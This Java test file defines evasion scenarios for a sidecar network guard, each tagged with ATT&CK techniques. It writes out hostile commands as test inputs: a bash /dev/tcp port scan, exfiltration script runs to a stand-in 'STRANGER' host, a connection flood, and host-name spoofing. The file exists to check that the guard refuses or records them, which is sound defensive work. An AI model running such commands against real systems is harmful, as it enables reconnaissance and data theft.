package io.kith.load.evasion;

import static io.kith.load.evasion.Evasion.refused;
import static io.kith.load.evasion.Evasion.seen;
import static org.assertj.core.api.Assertions.assertThat;

import io.kith.bridge.guard.GuardReason;
import io.kith.load.evasion.Evasion.Place;
import java.util.List;
import java.util.Set;

/** Going through the sidecar, and deceiving it or those that it asks. */
final class SidecarEvasions {
  private SidecarEvasions() {}

  static List<Evasion> all() {
    return List.of(
        refused(
            "A client that says nothing and waits for the server's greeting",
            "T1046, T1071",
            "gate: asked at connect, before Envoy connects",
            it ->
                it.isDenied(
                    "/usr/bin/bash",
                    "interpreter_inline",
                    () -> it.bash("exec 3<>/dev/tcp/DB/5432; read -r -t 2 line <&3; echo $line"))),
        refused(
            "A scan of ports",
            "T1046",
            "gate: each port is asked about, and none is connected to",
            it -> {
              it.isDenied(
                  "/usr/bin/bash",
                  "interpreter_inline",
                  () ->
                      it.bash(
                          "for port in 5432 8080 443 22 6379; do (echo >"
                              + " /dev/tcp/DB/$port) 2> /dev/null; done"));
              assertThat(it.mesh.database().connections()).isEmpty();
            }),
        refused(
            "Plain TCP to a port where HTTP is expected",
            "T1571, T1095",
            "every filter chain is checked, not only the one for HTTP",
            it ->
                it.isDenied(
                    "/usr/bin/perl /tmp/exfil.pl",
                    "new_process",
                    () -> it.perl("exfil.pl", "CATALOG", "8080"))),
        refused(
            "The name of an allowed host for another address (SNI)",
            "T1090.004, T1036",
            "`new_destination` or `name_mismatch`: a name of the client's choice counts only where"
                + " the pod was told that address for it",
            it ->
                it.isDenied(
                    "/usr/bin/curl",
                    Set.of("new_destination", "name_mismatch"),
                    () ->
                        it.app(
                            "/app/settle",
                            "https://payments/charge",
                            "/tmp/payments.pem",
                            "payments:443:STRANGER:443"))),
        refused(
            "The name of an allowed host for another address (Host)",
            "T1090.004, T1036",
            "`new_destination` or `name_mismatch`",
            it ->
                it.isDenied(
                    "/usr/bin/curl",
                    Set.of("new_destination", "name_mismatch"),
                    () ->
                        it.app(
                            "/app/settle",
                            "http://payments:8080/charge",
                            "/tmp/payments.pem",
                            "payments:8080:STRANGER:8080"))),
        refused(
                "A flood of connections, so that Envoy cannot ask about them all",
                "T1499",
                "fail-closed under enforce: what is not answered is refused",
                it -> {
                  it.at.forget();

                  // Not where normal work goes: who had a connection's port lately is asked about
                  // as
                  // well.
                  var said = it.perl("storm.pl", "STRANGER", "4444", "3000");

                  assertThat(said.text()).contains("done");
                  assertThat(it.mesh.stranger().connections()).isEmpty();
                  io.kith.load.mesh.Mesh.await(
                      "normal work after the flood", Intruder.LIMIT, () -> works(it));
                })
            .onlyIn(Place.NAMESPACES),
        seen(
            "Another container of the pod, with a program of the same path",
            "T1610, T1609",
            "recorded with its own container, image and hash. A learned edge asks for path, script,"
                + " ancestors, user and that the code is of an image, not of which; and no container"
                + " runtime tells a container that was added from one of the pod's that starts late."
                + " Use a rule of strictness `hash`, and let nobody add containers to a pod that"
                + " runs",
            it -> {
              var own = it.fingerprints("/usr/bin/perl /app/checkout");

              it.isAllowedAs(
                  "/usr/bin/perl /app/checkout",
                  it.mesh.database(),
                  () ->
                      Intruder.Said.of(
                          it.at
                              .tools()
                              .start(1000, "", it.argv("/app/checkout", "DB", "5432"))
                              .await(Intruder.LIMIT)));

              assertThat(it.fingerprints("/usr/bin/perl /app/checkout"))
                  .as("fingerprints beside %s", own)
                  .anyMatch(id -> !own.contains(id));
            }),
        refused(
                "A pod's first processes, before its sidecar runs",
                "T1562.004, T1610",
                "TCP has no sidecar to go to and fails; the guard refuses `udp`. The sidecar's user is"
                    + " counted until its container is known: use native sidecars",
                it -> {
                  var pod = it.at.podWithoutSidecar();
                  it.at.forget();

                  var said =
                      Intruder.Said.of(
                          pod.start(
                                  0,
                                  "",
                                  it.argv(
                                      "/bin/bash",
                                      "-c",
                                      "perl /tmp/exfil.pl STRANGER 4444; perl /tmp/datagram.pl STRANGER"
                                          + " 4433"))
                              .await(Intruder.LIMIT));

                  assertThat(said.text()).contains("refused").contains("not permitted");
                  it.assertNothingArrived(said);
                })
            .onlyIn(Place.NAMESPACES),
        seen(
            "Through an allowed program of the pod that forwards",
            "T1090.001",
            "it is the forwarder's connection, and recorded as such; who asked it is not known."
                + " Allow forwarders nothing that others may not have",
            it ->
                it.isAllowedAs(
                    "/usr/bin/perl /app/relay",
                    it.mesh.database(),
                    () -> it.app(EvasionMesh.RELAYED.toArray(String[]::new)))),
        seen(
            "A connection handed over by an allowed program (SCM_RIGHTS)",
            "T1559",
            "it is the connection of who opened it, and recorded as such",
            it ->
                it.isAllowedAs(
                    "/usr/bin/perl /app/broker",
                    it.mesh.database(),
                    () -> it.perl("fd-client.pl"))),
        refused(
            "The sidecar's own listeners, dialled directly",
            "T1090.001",
            "guard `proxy_port`: EPERM",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.PROXY_PORT,
                    "/usr/bin/perl /tmp/exfil.pl",
                    () -> it.perl("exfil.pl", "SELF", "15001"))));
  }

  static boolean works(Intruder it) {
    try {
      var said = it.mesh.work().stream().map(outcome -> outcome.stdout()).toList();
      return said.equals(it.mesh.expectedOfWork());
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }
}
